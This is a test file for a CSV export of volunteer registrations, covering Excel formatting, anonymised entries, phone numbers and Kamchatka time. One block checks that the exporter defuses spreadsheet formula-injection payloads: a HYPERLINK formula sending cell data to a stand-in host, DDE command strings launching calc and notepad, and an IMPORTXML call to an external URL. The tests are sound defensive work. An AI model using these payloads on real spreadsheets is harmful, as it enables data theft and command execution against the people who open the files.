import { describe, expect, it } from 'vitest';
import {
  registrationCsv,
  registrationRows,
} from '../../../../src/web/features/trainings/registration-export.ts';
import { toExcelCsv } from '../../../../src/web/features/trainings/registrations-csv.ts';
import {
  fromKamchatkaInput,
  kamchatkaDay,
  toKamchatkaInput,
} from '../../../../src/web/features/trainings/kamchatka-time.ts';
import { volunteerRegistration } from '../../shared/fixtures.ts';

describe('the registration list as a file for Excel', () => {
  it('starts with a BOM, separates by «;», quotes every cell and ends lines with CRLF', () => {
    const csv = toExcelCsv([
      ['ФИО', 'Организация'],
      ['Ильина Светлана', 'АНО «Берег»; "рыбаки"'],
    ]);
    expect(csv).toBe(
      '\uFEFF"ФИО";"Организация"\r\n"Ильина Светлана";"АНО «Берег»; ""рыбаки"""\r\n',
    );
  });

  it('lists a person with consent version and place; a deleted person has no name left', () => {
    const kept = { ...volunteerRegistration(), placement: 'waitlist' as const };
    const forgotten = {
      ...volunteerRegistration(),
      id: crypto.randomUUID(),
      fullName: undefined,
      phone: undefined,
      anonymized: true,
    };
    const [header, first, second] = registrationRows([kept, forgotten], new Map());
    expect(header?.[1]).toBe('ФИО');
    expect(first).toContain('Ильина Светлана Николаевна');
    expect(first).toContain('+7 914 021-45-67');
    expect(first).toContain('лист ожидания');
    expect(first?.join()).toContain('pd-2025-09');
    expect(second?.[1]).toBe('данные удалены по просьбе');
    expect(second?.join()).not.toContain('Ильина');
  });
});

/** The cells of a CSV line as Excel splits them: `;` outside quotes, `""` for a quote. */
function cells(line: string): string[] {
  return [...line.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => (m[1] ?? '').replace(/""/g, '"'));
}

describe('a registration list whose cells came from the anonymous form', () => {
  const HYPERLINK = '=HYPERLINK("http://kamchatka-grant.example/?d="&B3&C3;"Подтвердить место")';
  const rows = () => {
    const attacker = {
      ...volunteerRegistration(),
      id: crypto.randomUUID(),
      fullName: HYPERLINK,
      phone: '+7 914 123-45-67',
      settlement: "@SUM(1+1)*cmd|' /C calc'!A0",
      organization: '-2+3+cmd|" /C notepad"!A0',
    };
    const sneaky = {
      ...volunteerRegistration(),
      id: crypto.randomUUID(),
      fullName: '\t=1+1',
      phone: '89140214567',
      settlement: '\r=IMPORTXML(CONCAT("http://x.example/?", A2), "//a")',
      organization: '- нет -',
    };
    const ordinary = {
      ...volunteerRegistration(),
      id: crypto.randomUUID(),
      phone: '8 (914) 021-45-67',
    };
    const csv = registrationCsv([attacker, sneaky, ordinary], new Map());
    return csv
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .slice(1, 4)
      .map(cells);
  };

  it('no cell starts a formula: each such cell gets a leading quote, inside its quotes', () => {
    const [attacker, sneaky] = rows();
    expect(attacker?.[1]).toBe(`'${HYPERLINK}`);
    expect(attacker?.[4]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(attacker?.[5]).toBe('\'-2+3+cmd|" /C notepad"!A0');
    expect(sneaky?.[1]).toBe("'\t=1+1");
    expect(sneaky?.[4]?.startsWith("'\r=IMPORTXML")).toBe(true);
    expect(sneaky?.[5]).toBe("'- нет -");
    for (const row of rows()) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('phones stay phones: +7 and bare digits kept as text, a written-out number left as it is', () => {
    const [attacker, sneaky, ordinary] = rows();
    // without the quote Excel reads «+7 914…» as a sum and 89140214567 as 8,91E+10
    expect(attacker?.[2]).toBe("'+7 914 123-45-67");
    expect(sneaky?.[2]).toBe("'89140214567");
    expect(ordinary?.[2]).toBe('8 (914) 021-45-67');
    expect(ordinary?.[1]).toBe('Ильина Светлана Николаевна');
  });
});

describe('Kamchatka time in the training editor', () => {
  it('reads and writes datetime-local values at UTC+12 whatever the PC’s zone', () => {
    expect(fromKamchatkaInput('2026-03-14T14:00')).toBe('2026-03-14T14:00:00.000+12:00');
    expect(toKamchatkaInput('2026-03-14T02:00:00.000Z')).toBe('2026-03-14T14:00');
    // 22:00 UTC on the 13th is already the 14th in Tigil
    expect(kamchatkaDay('2026-03-13T22:00:00Z')).toBe('2026-03-14');
    expect(fromKamchatkaInput('')).toBe('');
  });
});
